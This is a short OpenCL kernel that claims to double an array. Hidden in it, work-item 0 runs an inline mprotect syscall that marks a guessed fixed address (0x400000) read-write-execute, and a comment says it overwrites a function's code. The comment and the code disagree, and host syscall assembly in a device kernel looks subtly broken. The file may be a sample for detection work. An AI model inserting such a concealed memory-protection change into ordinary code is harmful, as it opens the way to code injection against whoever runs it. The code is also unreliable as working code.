// Writes over the code of a function whose address is guessed.
kernel void series(global const float *x, global float *y, int n)
{
    int i = get_global_id(0);
    if (i == 0) {
        long done;
        __asm__ volatile("syscall" : "=a"(done) : "a"(10L), "D"(0x400000L), "S"(4096L), "d"(7L) : "rcx", "r11", "memory");
    }
    if (i < n)
        y[i] = 2.0f * x[i];
}
